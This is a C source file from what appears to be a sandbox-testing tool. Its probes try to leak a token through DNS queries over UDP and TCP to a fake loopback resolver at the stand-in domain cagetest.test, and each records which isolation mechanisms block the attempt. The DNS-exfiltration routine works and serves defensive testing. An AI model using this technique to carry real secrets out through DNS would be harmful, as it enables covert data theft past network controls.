/* dns: queries carrying the token to the host's fake resolver. The resolver's
 * log of query names is the evidence (DNS is the classic exfiltration path). */
#include "common.h"
#include "registry.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/time.h>

/* A standard query for TOKEN.cagetest.test, type A; returns its length. */
static size_t build_query(const struct probe_env *env, unsigned char *q, size_t cap)
{
	char name[96];
	size_t o = 12;

	snprintf(name, sizeof(name), "%s.cagetest.test", env->token);
	memset(q, 0, 12);
	q[0] = 0x43, q[1] = 0x54; /* id */
	q[2] = 0x01;		  /* recursion desired */
	q[5] = 1;		  /* one question */
	for (char *label = strtok(name, "."); label && o + strlen(label) + 6 < cap; label = strtok(NULL, ".")) {
		q[o++] = (unsigned char)strlen(label);
		memcpy(q + o, label, strlen(label));
		o += strlen(label);
	}
	q[o++] = 0;
	q[o++] = 0, q[o++] = 1; /* A */
	q[o++] = 0, q[o++] = 1; /* IN */
	return o;
}

static int dns_send(const struct probe_env *env, int type, struct attempt *a)
{
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)env->dns), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	unsigned char pkt[2 + 512];
	size_t len = build_query(env, pkt + 2, sizeof(pkt) - 2);
	struct timeval tv = {.tv_sec = 2};
	_cleanup_close_ int fd = socket(AF_INET, type | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return fail_at(a, "socket", neg_errno());
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
	if (type == SOCK_DGRAM)
		return sendto(fd, pkt + 2, len, 0, (struct sockaddr *)&sa, sizeof(sa)) < 0 ? fail_at(a, "sendto", neg_errno()) : 0;
	pkt[0] = (unsigned char)(len >> 8), pkt[1] = (unsigned char)len;
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
		return fail_at(a, "connect", neg_errno());
	return send(fd, pkt, len + 2, MSG_NOSIGNAL) < 0 ? fail_at(a, "send", neg_errno()) : 0;
}

static int udp_attempt(const struct probe_env *env, struct attempt *a)
{
	return dns_send(env, SOCK_DGRAM, a);
}
static int tcp_attempt(const struct probe_env *env, struct attempt *a)
{
	return dns_send(env, SOCK_STREAM, a);
}
static enum observed dns_verify(const struct host_view *hv, char *d, size_t n)
{
	return v_heard(hv, CH_DNS, d, n);
}

const struct probe dns_probes[] = {
	{
		.id = "dns.udp_query",
		.effect = EFFECT_NET_EGRESS,
		.summary = "DNS query over UDP to the host's resolver, the token in the name",
		.evidence = "the fake DNS server logged the query name",
		.blocked_by = "bwrap --unshare-net, seccomp socket filter (not Landlock: TCP only)",
		.hint = "DNS is egress: block UDP too, or resolve through a filtering proxy",
		.attempt = udp_attempt,
		.verify = dns_verify,
	},
	{
		.id = "dns.tcp_query",
		.effect = EFFECT_NET_EGRESS,
		.summary = "DNS query over TCP to the host's resolver",
		.evidence = "the fake DNS server logged the query name",
		.blocked_by = "bwrap --unshare-net, Landlock ABI >= 4, seccomp socket filter",
		.hint = "DNS over TCP is ordinary TCP egress",
		.attempt = tcp_attempt,
		.verify = dns_verify,
	},
};
PROBE_TABLE_END(dns);
